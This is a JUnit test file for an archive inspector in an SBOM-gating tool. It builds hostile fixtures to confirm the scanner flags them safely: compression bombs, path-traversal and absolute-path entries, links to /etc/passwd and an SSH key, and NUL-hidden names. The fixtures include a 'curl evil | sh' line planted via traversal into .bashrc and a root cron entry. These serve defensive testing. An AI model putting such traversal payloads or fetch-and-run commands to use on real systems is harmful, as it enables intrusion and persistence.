package dev.sbomgate.content;

import static dev.sbomgate.content.Archives.utf8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Archives built to hurt what reads them: each ends the walk with a problem (or lists unsafe entries) quickly,
 * in bounded memory, and the artifact is still read to its end (the hasher beneath must see every byte).
 */
@Timeout(value = 20, unit = TimeUnit.SECONDS)
class HostileArchivesTest {

    /** Through the in-memory reader (a zip by its central directory); {@code ...StreamingTest} runs these through the stream. */
    ContentSummary inspect(byte[] artifact, String fileName, String purlType, ArchiveLimits limits) {
        return Archives.inspect(artifact, fileName, purlType, limits);
    }

    ContentSummary inspect(byte[] artifact, String fileName, String purlType) {
        return inspect(artifact, fileName, purlType, ArchiveLimits.defaults());
    }

    private static final ArchiveLimits DEFAULTS = ArchiveLimits.defaults();

    /** A zip of one entry of {@code mib} MiB of zeros: deflate shrinks it about a thousand times. */
    static byte[] zipOfZeros(String name, int mib) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            zip.putNextEntry(new ZipEntry(name));
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < mib; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return out.toByteArray();
    }

    private static ArchiveLimits limits(long maxEntries, long maxTotalBytes, int maxRecorded, int maxListed) {
        return new ArchiveLimits(maxEntries, maxTotalBytes, DEFAULTS.maxRatio(), DEFAULTS.ratioFloorBytes(),
                DEFAULTS.maxPathLength(), DEFAULTS.maxPathDepth(), DEFAULTS.maxNesting(), DEFAULTS.maxEntryBytes(),
                maxRecorded, maxListed);
    }

    private static void assertProblem(ContentSummary summary, String start, byte[] artifact) {
        assertTrue(summary.problem() != null && summary.problem().startsWith(start), summary.problem());
        assertEquals(artifact.length, summary.size(), "the artifact is still read to its end");
    }

    @Test
    void aZipBombStopsAtTheCompressionRatio() {
        byte[] bomb = zipOfZeros("zeros.bin", 100);
        assertTrue(bomb.length < 200_000, "a bomb: " + bomb.length);
        assertProblem(inspect(bomb, "bomb.jar", "maven"), "archive exceeds limits: expands more than 200 times", bomb);
    }

    @Test
    void aNestedZipBombStopsToo() {
        byte[] inner = zipOfZeros("zeros.bin", 8);
        Archives.Zip outer = Archives.zip();
        for (int i = 0; i < 16; i++) {
            outer.add("lib/layer" + i + ".jar", inner);
        }
        byte[] bomb = outer.bytes();
        assertProblem(inspect(bomb, "layers.jar", "maven"), "archive exceeds limits: expands more than 200 times", bomb);
    }

    @Test
    void aTarballBombStopsToo() {
        byte[] bomb = Archives.tar().file("package/zeros.js", new byte[64 * 1024 * 1024]).gzip();
        assertProblem(inspect(bomb, "x-1.0.0.tgz", "npm"), "archive exceeds limits: expands more than 200 times", bomb);
    }

    @Test
    void incompressibleContentStopsAtTheTotalSize() {
        byte[] random = new byte[2 * 1024 * 1024];
        new Random(1).nextBytes(random);
        byte[] zip = Archives.zip().add("a.bin", random).bytes();
        assertProblem(inspect(zip, "a.jar", "maven", limits(100, 1024 * 1024, 100, 20)),
                "archive exceeds limits: more than 1 MiB uncompressed", zip);
    }

    @Test
    void tooManyEntries() {
        Archives.Zip zip = Archives.zip();
        for (int i = 0; i < 150; i++) {
            zip.add("c/C" + i + ".class", ContentFixtures.classFile());
        }
        byte[] bytes = zip.bytes();
        assertProblem(inspect(bytes, "a.jar", "maven", limits(100, 1 << 30, 100, 20)),
                "archive exceeds limits: more than 100 entries", bytes);
    }

    @Test
    void tooManyHooksToRecord() {
        Archives.Zip zip = Archives.zip();
        for (int i = 0; i < 12; i++) {
            zip.add("native/lib" + i + ".so", ContentFixtures.elf());
        }
        byte[] bytes = zip.bytes();
        assertProblem(inspect(bytes, "a.jar", "maven", limits(100, 1 << 30, 10, 20)),
                "archive exceeds limits: more than 10 hooks", bytes);
    }

    @Test
    void aPathTooLong() {
        byte[] zip = Archives.zip().add("a/" + "x".repeat(2_000), "1").bytes();
        assertProblem(inspect(zip, "a.jar", "maven"), "archive exceeds limits: an entry path of 2002 characters (limit 1024)", zip);
    }

    @Test
    void aPathTooDeep() {
        byte[] zip = Archives.zip().add("a/".repeat(100) + "x", "1").bytes();
        assertProblem(inspect(zip, "a.jar", "maven"), "archive exceeds limits: an entry path 101 levels deep (limit 64)", zip);
    }

    @Test
    void aDeeplyNestedJar() {
        byte[] jar = Archives.zip().add("payload.so", ContentFixtures.elf()).bytes();
        for (int level = 9; level >= 1; level--) {
            jar = Archives.zip().stored("level" + level + ".jar", jar).bytes();
        }
        ContentSummary s = inspect(jar, "russian-doll.jar", "maven");
        assertProblem(s, "archive exceeds limits: archives nested more than 3 deep: level1.jar!/level2.jar!/level3.jar!/level4.jar", jar);
    }

    @Test
    void nestingWithinTheLimitIsRead() {
        byte[] jar = Archives.zip().add("payload.so", ContentFixtures.elf()).bytes();
        for (int level = 3; level >= 1; level--) {
            jar = Archives.zip().add("level" + level + ".jar", jar).bytes();
        }
        ContentSummary s = inspect(jar, "doll.jar", "maven");
        assertNull(s.problem());
        assertTrue(s.hooks().stream().anyMatch(h -> h.path().equals("level1.jar!/level2.jar!/level3.jar!/payload.so")),
                s.hooks().toString());
    }

    @Test
    void tarEntriesThatClimbOutOrAreAbsoluteAreListedAndSkipped() {
        byte[] tgz = Archives.tar()
                .file("package/package.json", "{\"scripts\":{\"install\":\"node i.js\"}}")
                .file("package/../../../home/user/.bashrc", "curl evil | sh\n")
                .file("/etc/cron.d/evil", "* * * * * root sh\n")
                .file("C:\\Windows\\evil.dll", "MZ")
                .file("package\\..\\..\\evil.js", "x")
                .gzip();
        ContentSummary s = inspect(tgz, "x-1.0.0.tgz", "npm");
        assertNull(s.problem());
        assertEquals(List.of(
                "package/../../../home/user/.bashrc (climbs out of the archive with ..)",
                "/etc/cron.d/evil (an absolute path)",
                "C:\\Windows\\evil.dll (an absolute path)",
                "package\\..\\..\\evil.js (climbs out of the archive with ..)"), s.unsafeEntries());
        assertEquals(1, s.hooks().size(), "the safe entries are still read: " + s.hooks());
        assertEquals(tgz.length, s.size());
    }

    @Test
    void linksOutOfTheArchiveAndSpecialFilesAreUnsafe() {
        byte[] tgz = Archives.tar()
                .symlink("package/index.js", "/etc/passwd")
                .hardlink("package/lib.js", "../../.ssh/id_rsa")
                .symlink("package/lib/up.js", "../../x")
                .symlink("package/lib/win", "C:\\Windows\\System32")
                .fifo("package/pipe")
                .gzip();
        ContentSummary s = inspect(tgz, "x-1.0.0.tgz", "npm");
        assertEquals(List.of(
                "package/index.js (a link to /etc/passwd, outside the archive, never followed)",
                "package/lib.js (a link to ../../.ssh/id_rsa, outside the archive, never followed)",
                "package/lib/up.js (a link to ../../x, outside the archive, never followed)",
                "package/lib/win (a link to C:\\Windows\\System32, outside the archive, never followed)",
                "package/pipe (a device, FIFO or sparse file)"), s.unsafeEntries());
        assertEquals(List.of(), s.links());
    }

    @Test
    void linksThatStayInsideAreListedApartAndNeverFollowed() {
        byte[] tgz = Archives.tar()
                .file("package/README.md", "# x")
                .symlink("package/readme", "README.md")
                .symlink("package/lib/readme", "../README.md")
                .hardlink("package/copy.md", "package/README.md")
                .gzip();
        ContentSummary s = inspect(tgz, "x-1.0.0.tgz", "npm");
        assertEquals(List.of(), s.unsafeEntries());
        assertEquals(List.of("package/readme -> README.md", "package/lib/readme -> ../README.md",
                "package/copy.md -> package/README.md"), s.links());
        assertNull(s.problem());
    }

    @Test
    void linkTargetsAreResolvedFromTheLinksDirectory() {
        assertEquals(false, EntryNames.escapes("a/b", "../c"));
        assertEquals(false, EntryNames.escapes("a/b", "../../c"));
        assertEquals(true, EntryNames.escapes("a/b", "../../../c"));
        assertEquals(true, EntryNames.escapes("a", "b/../../.."));
        assertEquals(false, EntryNames.escapes("", "./x/./y"));
        assertEquals(true, EntryNames.escapes("", ""));
        assertEquals(true, EntryNames.escapes("a", "\\\\server\\share"));
    }

    @Test
    void zipNamesThatClimbOutOrHideANul() {
        byte[] whl = Archives.zip().add("../../evil.pth", "import os\n").add("evil.pth\u0000.txt", "import os\n")
                .add("ok.pth", "import os\n").bytes();
        ContentSummary s = inspect(whl, "x-1.0-py3-none-any.whl", "pypi");
        assertEquals(List.of("../../evil.pth (climbs out of the archive with ..)",
                "evil.pth\\u0000.txt (a NUL character in its path)"), s.unsafeEntries());
        assertEquals(List.of("ok.pth"), s.hooks().stream().map(Hook::name).toList());
    }

    @Test
    void unsafeEntriesAreListedUpToTheLimitThenCounted() {
        Archives.Tar tar = Archives.tar();
        for (int i = 0; i < 25; i++) {
            tar.fifo("package/f" + i);
        }
        ContentSummary s = inspect(tar.gzip(), "x.tgz", "npm");
        assertEquals(21, s.unsafeEntries().size());
        assertEquals("… and 5 more", s.unsafeEntries().get(20));
    }

    @Test
    void aHookFileOverTheReadLimit() {
        String big = "{\"description\":\"" + "x".repeat(1_100_000) + "\"}";
        byte[] tgz = Archives.npm(big);
        assertProblem(inspect(tgz, "x.tgz", "npm"), "archive exceeds limits: package/package.json is larger than 1 MiB", tgz);
    }

    @Test
    void aLargeManifestIsFineWhenItsMainSectionIsSmall() {
        StringBuilder manifest = new StringBuilder("Manifest-Version: 1.0\r\nPremain-Class: a.B\r\n\r\n");
        for (int i = 0; manifest.length() < 2_000_000; i++) {
            manifest.append("Name: org/example/C").append(i).append(".class\r\nSHA-256-Digest: ")
                    .append("A".repeat(44)).append("\r\n\r\n");
        }
        byte[] jar = Archives.zip().add("META-INF/MANIFEST.MF", manifest.toString()).bytes();
        ContentSummary s = inspect(jar, "signed.jar", "maven");
        assertNull(s.problem());
        assertEquals(List.of("Premain-Class"), s.hooks().stream().map(Hook::name).toList());

        byte[] huge = Archives.zip().add("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nX: " + "y".repeat(1_100_000)
                + "\r\n").bytes();
        assertProblem(inspect(huge, "a.jar", "maven"), "archive exceeds limits: META-INF/MANIFEST.MF is larger than 1 MiB", huge);
    }

    @Test
    void aTruncatedTarball() {
        byte[] whole = Archives.npm("{}", "index.js", ContentFixtures.readableJs(100_000));
        byte[] cut = Arrays.copyOf(whole, whole.length / 2);
        assertProblem(inspect(cut, "x.tgz", "npm"), "archive cannot be read", cut);
    }

    @Test
    void aCorruptZip() {
        byte[] zip = Archives.zip().add("a.txt", ContentFixtures.readableJs(50_000)).bytes();
        for (int i = 60; i < 400; i++) {
            zip[i] ^= 0x5a;
        }
        assertProblem(inspect(zip, "a.jar", "maven"), "archive cannot be read", zip);
    }

    @Test
    void aBadHeaderInsideATarball() {
        byte[] tar = Archives.tar().file("package/a.js", "1").file("package/b.js", "2").bytes();
        tar[1024 + 10] ^= 1;
        byte[] tgz = Archives.gzip(tar);
        assertProblem(inspect(tgz, "x.tgz", "npm"), "archive cannot be read: not a tar archive: header checksum mismatch at offset 1024", tgz);
    }

    @Test
    void anOversizedPaxHeader() {
        byte[] tgz = Archives.tar().raw("PaxHeaders/x", 'x', Archives.Tar.paxRecord("comment", "c".repeat(1_100_000)))
                .file("package/a.js", "1").gzip();
        assertProblem(inspect(tgz, "x.tgz", "npm"), "archive exceeds limits: a pax extended header of", tgz);
    }

    @Test
    void aMalformedPaxRecord() {
        byte[] tgz = Archives.tar().raw("PaxHeaders/x", 'x', utf8("99 path=x\n")).file("package/a.js", "1").gzip();
        assertProblem(inspect(tgz, "x.tgz", "npm"), "archive cannot be read: malformed pax record", tgz);
    }
}
